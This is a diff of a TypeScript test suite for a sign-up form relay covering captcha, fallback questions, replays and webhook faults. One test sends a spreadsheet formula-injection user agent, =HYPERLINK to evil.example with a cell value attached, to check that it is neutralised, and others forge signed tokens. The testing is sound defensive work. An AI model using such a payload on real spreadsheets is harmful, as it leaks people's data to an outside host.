@@ -127,24 +127,29 @@ describe("relaying a valid sign-up", () => {
     expect(Date.parse(body.ts!)).toBeLessThanOrEqual(Date.now());
   });
 
-  it("sends an empty userAgent when the browser sent none, and the configured source", async () => {
-    const signup = makeSignup({ SIGNUP_SOURCE: "lp-previdencia" });
-    const request = new Request("http://localhost/?index", {
-      method: "POST",
-      headers: { "content-type": "application/x-www-form-urlencoded" },
-      body: new URLSearchParams(formFields({ email: "bia@exemplo.com", hcaptchaToken: token() })),
-    });
-    request.headers.delete("user-agent");
-    await signup.handle(request);
-    expect(JSON.parse(standIn.received.webhook[0]!.raw)).toMatchObject({ userAgent: "", source: "lp-previdencia" });
-  });
-
-  it("relays a user agent that starts like a spreadsheet formula without its formula start", async () => {
-    const signup = makeSignup();
-    const formula = '=HYPERLINK("https://evil.example/?leak="&A2;"Clique aqui")';
-    await submit(signup, { email: "bia@exemplo.com", hcaptchaToken: token() }, { "user-agent": ` +-@${formula}` });
-    expect(JSON.parse(standIn.received.webhook[0]!.raw)).toMatchObject({ userAgent: formula.slice(1) });
-  });
+  it.each([
+    ["none", undefined, ""],
+    [
+      "one that starts like a spreadsheet formula",
+      ' +-@=HYPERLINK("https://evil.example/?leak="&A2)',
+      '=HYPERLINK("https://evil.example/?leak="&A2)'.slice(1),
+    ],
+  ])(
+    "relays the configured source, and the user agent when the browser sent %s, without a formula's start",
+    async (_, sent, relayed) => {
+      const signup = makeSignup({ SIGNUP_SOURCE: "lp-previdencia" });
+      const request = post(
+        formFields({ email: "bia@exemplo.com", hcaptchaToken: token() }),
+        sent === undefined ? {} : { "user-agent": sent },
+      );
+      if (sent === undefined) request.headers.delete("user-agent");
+      await signup.handle(request);
+      expect(JSON.parse(standIn.received.webhook[0]!.raw)).toMatchObject({
+        userAgent: relayed,
+        source: "lp-previdencia",
+      });
+    },
+  );
 
   it("logs one structured line per outcome, with the e-mail masked and never the webhook URL", async () => {
     const signup = makeSignup();
@@ -191,7 +196,6 @@ describe("webhook faults", () => {
     [string, () => Promise<Record<string, string>> | Record<string, string>, () => void, string, number]
   > = [
     ["connection refused", async () => ({ WEBHOOK_URL: await closedPortUrl() }), () => {}, FALLBACK.description, 0],
-    ["connection reset", () => ({}), () => (standIn.webhook = { status: 200, reset: true }), FALLBACK.description, 1],
     [
       "500 with text",
       () => ({}),
@@ -204,13 +208,6 @@ describe("webhook faults", () => {
       () => ({}),
       () => (standIn.webhook = { status: 404, text: "" }),
       "Webhook retornou 404 Not Found",
-      1,
-    ],
-    [
-      "429",
-      () => ({}),
-      () => (standIn.webhook = { status: 429, text: "slow down" }),
-      "Webhook retornou 429 Too Many Requests: slow down",
       1,
     ],
   ];
@@ -248,28 +245,20 @@ describe("webhook faults", () => {
     expect(standIn.bodyBytesSent).toBeLessThan(10 * 1024 * 1024);
   });
 
-  it("a failed relay can be retried with the same proof, under the same Idempotency-Key", async () => {
+  it("a failed relay is relayed again on the next press, with the same captcha or a new one, under the same Idempotency-Key (the automation can drop a double)", async () => {
     const signup = makeSignup();
     const captcha = token();
+    // The webhook took it but the answer never came: the visitor was told it failed.
+    standIn.webhook = { status: 200, reset: true };
+    expect((await submit(signup, { email: "ana@exemplo.com.br", hcaptchaToken: captcha })).status).toBe(502);
     standIn.webhook = { status: 503, text: "" };
     expect((await submit(signup, { email: "ana@exemplo.com.br", hcaptchaToken: captcha })).status).toBe(502);
     standIn.webhook = { status: 200 };
-    expect((await submit(signup, { email: "ana@exemplo.com.br", hcaptchaToken: captcha })).status).toBe(200);
-    const keys = standIn.received.webhook.map((hit) => hit.headers["idempotency-key"]);
-    expect(keys).toHaveLength(2);
-    expect(keys[0]).toMatch(/^[A-Za-z0-9_-]{43}$/);
-    expect(keys[1]).toBe(keys[0]);
-  });
-
-  it("a retry with a new captcha is the same sign-up: the same Idempotency-Key, so the automation can drop a double", async () => {
-    const signup = makeSignup();
-    // The webhook took it but the answer never came: the visitor was told it failed.
-    standIn.webhook = { status: 200, reset: true };
-    expect((await submit(signup, { email: "ana@exemplo.com.br", hcaptchaToken: token() })).status).toBe(502);
-    standIn.webhook = { status: 200 };
     expect((await submit(signup, { email: "ana@exemplo.com.br", hcaptchaToken: token() })).status).toBe(200);
-    const [unanswered, relayed] = standIn.received.webhook.map((hit) => hit.headers["idempotency-key"]);
-    expect(relayed).toBe(unanswered);
+    const keys = standIn.received.webhook.map((hit) => hit.headers["idempotency-key"]);
+    expect(keys).toHaveLength(3);
+    expect(keys[0]).toMatch(/^[A-Za-z0-9_-]{43}$/);
+    expect(new Set(keys).size).toBe(1);
   });
 });
 
@@ -393,35 +382,39 @@ describe("the fallback question", () => {
     }
   });
 
-  it("an expired question → 'Pergunta expirada' and a new one", async () => {
+  it("a question expired, signed with another secret or with its expiry spelled otherwise → 'Pergunta expirada' and a new one", async () => {
     const signup = makeSignup();
-    const questions = new FallbackQuestions(new SignedTokens(SECRET), answersLimit(), "");
-    const old = questions.ask(Date.now() - QUESTION_TTL_MS - 1);
-    const { status, result } = await submit(signup, {
-      email: "ana@exemplo.com.br",
-      ...answering(old),
-    });
-    expect(status).toBe(400);
-    expect(result.notice.title).toBe("Pergunta expirada");
-    expect(result.question).toBeDefined();
+    const questionsUnder = (secret: string) => new FallbackQuestions(new SignedTokens(secret), answersLimit(), "");
+    const live = signup.formTokens().question;
+    const [id, expiry, mac] = live.token.split(".") as [string, string, string];
+    const tokens = [
+      questionsUnder(SECRET).ask(Date.now() - QUESTION_TTL_MS - 1),
+      questionsUnder("another-secret-another-secret-000").ask(),
+      ...[`0${expiry}`, `+${expiry}`, `${expiry}e0`, ` ${expiry}`].map((spelling) => ({
+        ...live,
+        token: `${id}.${spelling}.${mac}`,
+      })),
+    ];
+    for (const question of tokens) {
+      const { status, result } = await submit(signup, { email: "ana@exemplo.com.br", ...answering(question) });
+      expect([status, result.notice.title, result.question?.text]).toEqual([
+        400,
+        "Pergunta expirada",
+        expect.stringMatching(/^Quanto é/),
+      ]);
+    }
+    expect(standIn.received.webhook).toHaveLength(0);
   });
 
-  it("a question signed with another secret is not accepted", async () => {
-    const forged = new FallbackQuestions(
-      new SignedTokens("another-secret-another-secret-000"),
-      answersLimit(),
-      "",
-    ).ask();
-    const { status } = await submit(makeSignup(), {
-      email: "ana@exemplo.com.br",
-      ...answering(forged),
-    });
-    expect(status).toBe(400);
-  });
-
-  it("one question takes three answers at most", async () => {
+  it("one question takes three correct answers at most; wrong ones spend none", async () => {
     const signup = makeSignup({ TRUST_PROXY: "1" });
     const proof = answered(signup);
+    for (let attempt = 0; attempt < 5; attempt++)
+      await submit(signup, {
+        email: `bot${attempt}@exemplo.com`,
+        ...answered(signup, 1),
+        challengeToken: proof.challengeToken,
+      });
     const statuses: number[] = [];
     for (const [index, email] of ["a@exemplo.com", "b@exemplo.com", "c@exemplo.com", "d@exemplo.com"].entries()) {
       statuses.push((await submit(signup, { email, ...proof }, { "x-forwarded-for": `203.0.113.${index}` })).status);
@@ -557,23 +550,20 @@ describe("the fallback question", () => {
 });
 
 describe("replays", () => {
-  it("the same e-mail and token again answers success without a second relay", async () => {
-    const signup = makeSignup();
-    const captcha = token();
-    const first = await submit(signup, { email: "Ana@Exemplo.com.br", hcaptchaToken: captcha });
-    const second = await submit(signup, { email: "ana@exemplo.com.br", hcaptchaToken: captcha });
-    expect(first.result.ok && second.result.ok).toBe(true);
-    expect(second.result.notice).toEqual(SUCCESS);
-    expect(standIn.received.webhook).toHaveLength(1);
-  });
-
-  it("the NFD and NFC spellings of one address, with one captcha token, are one sign-up relayed in NFC", async () => {
-    const signup = makeSignup();
-    const captcha = token();
-    expect((await submit(signup, { email: "joa\u0303o@exemplo.com.br", hcaptchaToken: captcha })).status).toBe(200);
-    expect((await submit(signup, { email: "jo\u00e3o@exemplo.com.br", hcaptchaToken: captcha })).status).toBe(200);
-    expect(standIn.relayedEmails()).toEqual(["jo\u00e3o@exemplo.com.br"]);
-  });
+  it.each([
+    ["a captcha token", () => ({ hcaptchaToken: token() })],
+    ["a question's answer", (signup: Signup) => answering(signup.formTokens().question)],
+  ])(
+    "the same e-mail (another spelling of it: case, NFD) with the same %s again answers success without a second relay",
+    async (_, proof) => {
+      const signup = makeSignup();
+      const fields = proof(signup);
+      const first = await submit(signup, { email: "Joa\u0303o@Exemplo.com.br", ...fields });
+      const second = await submit(signup, { email: "Jo\u00e3o@exemplo.com.br", ...fields });
+      expect([first.result.notice, second.result.notice]).toEqual([SUCCESS, SUCCESS]);
+      expect(standIn.relayedEmails()).toEqual(["Jo\u00e3o@exemplo.com.br"]);
+    },
+  );
 
   it("five identical posts at once (a double click, a retry) relay once and all succeed", async () => {
     standIn.webhook = { status: 200, delayMs: 100 };
@@ -581,15 +571,6 @@ describe("replays", () => {
     const fields = { email: "ana@exemplo.com.br", hcaptchaToken: token() };
     const answers = await Promise.all(Array.from({ length: 5 }, () => submit(signup, fields)));
     expect(answers.map((answer) => answer.status)).toEqual([200, 200, 200, 200, 200]);
-    expect(standIn.received.webhook).toHaveLength(1);
-  });
-
-  it("a replayed fallback answer is not relayed twice", async () => {
-    const signup = makeSignup();
-    const question = signup.formTokens().question!;
-    const fields = { email: "ana@exemplo.com.br", ...answering(question) };
-    expect((await submit(signup, fields)).status).toBe(200);
-    expect((await submit(signup, fields)).status).toBe(200);
     expect(standIn.received.webhook).toHaveLength(1);
   });
 });
@@ -864,15 +845,6 @@ describe("one relay per address a day", () => {
     const refused = [429, "Muitos cadastros sem captcha"];
     expect(await answer("lista0@exemplo.com", "198.51.100.1")).toEqual(refused);
     expect(await answer("ninguem@exemplo.com", "198.51.100.2")).toEqual(refused);
-  });
-
-  it("an address whose relay failed is relayed on the next try", async () => {
-    const signup = makeSignup();
-    standIn.webhook = { status: 503, text: "" };
-    expect((await submit(signup, { email: "ana@exemplo.com.br", hcaptchaToken: token() })).status).toBe(502);
-    standIn.webhook = { status: 200 };
-    expect((await submit(signup, { email: "ana@exemplo.com.br", hcaptchaToken: token() })).status).toBe(200);
-    expect(standIn.relayedEmails()).toEqual(["ana@exemplo.com.br", "ana@exemplo.com.br"]);
   });
 });
 
